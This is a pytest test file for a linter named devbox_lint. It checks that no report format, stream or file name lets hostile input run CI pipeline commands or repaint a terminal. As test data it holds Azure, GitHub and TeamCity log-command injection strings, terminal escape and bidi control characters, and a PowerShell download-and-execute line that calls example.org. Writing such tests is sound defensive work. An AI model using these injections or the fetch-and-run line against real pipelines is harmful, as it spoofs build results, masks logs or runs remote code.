"""What strangers write into a file cannot run a command in a pipeline or repaint a terminal, in any format.

Checked byte by byte on what the process writes: to standard output, to standard error, and to the files of reports.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterable
from pathlib import Path
from typing import NamedTuple
from xml.etree import ElementTree

import pytest

from command_line import environment
from devbox_lint.run.options import FORMATS
from reports.runners import commands, visible

pytestmark = pytest.mark.slow

COMMANDS = (
    "##vso[task.setvariable variable=x]y",
    "##VSO[task.complete result=Succeeded;]",
    "##[error]x",
    "##[add-mask]x",
    "::set-output name=a::b",
    "::add-mask::x",
    "  ::stop-commands::x",
    "::error file=a,line=1::x",
    "##teamcity[buildStatus text='x']",
)
#: Each as YAML can hold it in double quotes, and as it may stand in a comment, an unquoted text or a name.
CHARACTERS = {
    "\\e[2J\\e]0;t\\a": "\x1b[2J\x1b]0;t\x07",
    "\\r": "\r",
    "\\u202e\\u2066\\u200f": "\u202e\u2066\u200f",
    "\\u009b31m": "\u009b31m",
    "\\N": "\x85",
    "\\L\\P": "\u2028\u2029",
    "\\u200b": "\u200b",
    "\\uFEFF": "\ufeff",
    "\\0\\x08": "\x08",
}
#: No name of a file holds a slash.
NAMES = [text.replace("/", "") for text in (*COMMANDS, *(f"a{text}::add-mask::b" for text in CHARACTERS.values()))]


ESCAPED = [text for part in CHARACTERS for text in (f"a{part}##vso[b.c]d", f"{part}::add-mask::d")]
RAW = [*COMMANDS, *(f"a{text}##[error]d" for text in CHARACTERS.values())]
KEYS = [f'"{text}"' for text in (*COMMANDS, *ESCAPED)]
VAULT = "{{https://v.vault.azure.net"


def definition() -> str:
    """A definition that YAML can read, with every command and every character wherever a person can write."""
    lines = [
        *(f"# {text}" for text in COMMANDS),
        *(f"# devbox-lint: ignore[{text}]" for text in COMMANDS),
        "$schema: '##[error]1'",
        f"name: {KEYS[0]}",
        f'image: "{COMMANDS[0]} {COMMANDS[2]}"',
        *(f"{key}: {key}" for key in KEYS),
        "tasks:",
        *(f'  - name: "~/{key[1:]}' for key in KEYS),
        *(f"  - name: {key}\n    timeout: {key}\n    {key}: 1" for key in KEYS),
        *(f"  - name: ~/gitclone\n    parameters:\n      {key}: {key}" for key in KEYS),
        *(f'  - name: ~/gitclone\n    parameters:\n      pat: "{VAULT}/{key[1:-1]}}}}}"' for key in KEYS),
        *(f"  - name: ~/powershell\n    parameters:\n      command: {key}" for key in KEYS),
        "  - name: ~/powershell",
        "    parameters:",
        "      command: |",
        *(f"        {text}" for text in COMMANDS),
        "        iex (irm http://example.org/##[error])",
    ]
    return "\n".join(lines) + "\n"


def definitions() -> list[str]:
    """That one, and small ones with what YAML cannot read, or reads as the end of a line."""
    broken = [f"name: web\ntasks:\n  - name: ~/{text}\n    {text}: {{{{{text}\n{text}\n" for text in RAW]
    comments = [f"name: web\n# {text}\n# devbox-lint: ignore[{text}]\nnam: 1 # {text}\n" for text in RAW]
    return [definition(), *broken, *comments]


class Output(NamedTuple):
    code: int
    out: str
    err: str


def hostile_folder(folder: Path) -> Path:
    """A repository of those definitions, under names that are hostile where the system allows it."""
    (folder / ".git").mkdir()
    for number, text in enumerate(definitions()):
        name = NAMES[number % len(NAMES)] if os.name == "posix" else str(number)
        with open(os.fsencode(folder / f"{name} {number}.imagedefinition.yaml"), "wb") as stream:
            stream.write(text.encode("utf-8", "surrogatepass"))
    return folder


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_folder(tmp_path_factory.mktemp("hostile"))


def lint(folder: Path, *arguments: str, stdin: str = "") -> Output:
    done = subprocess.run(
        [sys.executable, "-m", "devbox_lint", *arguments],
        cwd=folder,
        env=environment(),
        input=stdin.encode(),
        capture_output=True,
        timeout=120,
    )
    assert b"Traceback" not in done.stderr
    return Output(done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8"))


def check_harmless(text: str, allowed: Iterable[str] = (), tabs: bool = False) -> None:
    """No character that is not seen but the line break, and no command but those that are ours."""
    unseen = {character for character in text if not visible(character)} - {"\n"} - ({"\t"} if tabs else set())
    assert unseen == set()
    assert {command.name for command in commands(text)} <= set(allowed)


OURS = {"github": ("error", "warning", "notice"), "azure": ("task.logissue",)}


@pytest.mark.parametrize("name", FORMATS)
def test_no_report_runs_a_command_or_repaints_a_terminal(folder: Path, name: str) -> None:
    done = lint(folder, "--output-format", name, "--select", "ALL")

    assert done.code == 1, done.err
    assert len(done.out) > 10_000
    check_harmless(done.out, OURS.get(name, ()))
    check_harmless(done.err)


@pytest.mark.parametrize("name", FORMATS)
def test_no_file_of_a_report_does(folder: Path, name: str, tmp_path: Path) -> None:
    lint(folder, "--output", f"{name}:{tmp_path / 'report'}", "--select", "ALL", "missing##[error]\x1b.yaml", ".")

    with open(tmp_path / "report", encoding="utf-8", newline="") as stream:
        written = stream.read()
    assert "missing" in written
    check_harmless(written, OURS.get(name, ()))


@pytest.mark.parametrize("name", ["text", "html", "markdown"])
def test_no_page_over_many_repositories_does(folder: Path, name: str, tmp_path: Path) -> None:
    hostile = "##[error]\x1b::add-mask::x" if os.name == "posix" else "a"
    for number in range(2):
        report = tmp_path / f"{number}{hostile}.json"
        lint(folder, "--output", f"json:{report}", "--select", "ALL", "missing##[error]\x1b.yaml", ".")
    # As somebody may write it who is not us: with texts that nobody has made harmless.
    raw = json.loads(report.read_text("ascii"))
    for item in raw["diagnostics"]:
        item["message"] = item["help"] = item["name"] = RAW[len(item["message"]) % len(RAW)] + "\n::error::x"
        item["code"] = item["url"] = item["filename"]
    raw["repository"] = {"url": "https://x/##[error]\x1b", "revision": "\x1b##[error]x", "branch": None}
    raw["tool"]["version"] = raw["date"] = "\n::error::\x1b"
    (tmp_path / "raw.json").write_text(json.dumps(raw), "ascii")

    done = lint(tmp_path, "report", ".", "--before", "raw.json", "--output-format", name)

    assert done.code == 0, done.err
    assert len(done.out) > 300
    check_harmless(done.out)
    check_harmless(done.err)


@pytest.mark.parametrize("name", OURS)
def test_each_command_is_one_diagnostic(folder: Path, name: str) -> None:
    found = json.loads(lint(folder, "--output-format", "json", "--select", "ALL").out)["diagnostics"]
    expected = [item for item in found if name == "github" or item["severity"] != "info"]

    written = commands(lint(folder, "--output-format", name, "--select", "ALL").out)

    assert len(written) == len(expected) > 100
    messages = [item["message"] + (f"\nhelp: {item['help']}" if item["help"] else "") for item in expected]
    assert [command.data for command in written] == messages


def test_programs_read_what_the_file_says(folder: Path) -> None:
    """What is harmless in a log is exact in the data."""
    found = json.loads(lint(folder, "--output-format", "json").out)["diagnostics"]

    assert {item["filename"] for item in found} == set(os.listdir(folder)) - {".git"}
    ElementTree.fromstring(lint(folder, "--output-format", "junit").out)


@pytest.mark.parametrize(
    "arguments",
    [
        ("--diff", "--unsafe-fixes"),
        ("--statistics",),
        ("--statistics", "--output-format", "json"),
        ("--kind", "user", *COMMANDS),
        *((f"nowhere{text}",) for text in CHARACTERS.values() if "\0" not in text),
        ("--select", "##[error]\x1b"),
        ("--exclude", "::add-mask::\r"),
        ("--##vso[a.b]c",),
        ("--output", "##[error]:x"),
        ("--output", "sarif:/dev/null/##[error]\x1b"),
        ("rule", "##vso[a.b]\x1b"),
        ("schema", "::error::\r"),
        ("--task-catalog", "##[error]\x1b"),
        ("tasks",),
    ],
    ids=lambda arguments: ascii(arguments[0]),
)
def test_nothing_else_does(folder: Path, arguments: tuple[str, ...]) -> None:
    done = lint(folder, *arguments)

    assert done.out or done.err
    check_harmless(done.out, tabs="--diff" in arguments)
    check_harmless(done.err)


@pytest.mark.parametrize("name", FORMATS)
def test_no_report_of_fixes_does(folder: Path, name: str) -> None:
    called = f"{NAMES[0]}.imagedefinition.yaml"
    options = ("--fix", "--unsafe-fixes", "--output-format", name, "--stdin-filename", called)
    done = lint(folder, *options, stdin=definition())

    assert done.code == 1
    check_harmless(done.err, OURS.get(name, ()))


def test_a_name_that_is_no_text_is_harmless_too(tmp_path: Path) -> None:
    try:
        with open(os.path.join(os.fsencode(tmp_path), b"\xff##[error]\x9b.imagedefinition.yaml"), "w") as stream:
            stream.write("tasks: []\n")
    except OSError:
        pytest.skip("this file system takes no such name")
    for name in FORMATS:
        done = lint(tmp_path, "--output-format", name)
        check_harmless(done.out, OURS.get(name, ()))
        if name in ("json", "json-v1", "gitlab", "rdjson", "sarif"):
            json.loads(done.out)


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
@pytest.mark.parametrize("name", FORMATS)
def test_no_report_does_in_an_old_encoding(folder: Path, name: str, encoding: str) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "devbox_lint", "--output-format", name],
        cwd=folder,
        env=environment(PYTHONIOENCODING=encoding),
        capture_output=True,
        timeout=120,
    )

    assert done.returncode == 1
    check_harmless(done.stdout.decode(encoding), OURS.get(name, ()))
    check_harmless(done.stderr.decode(encoding))
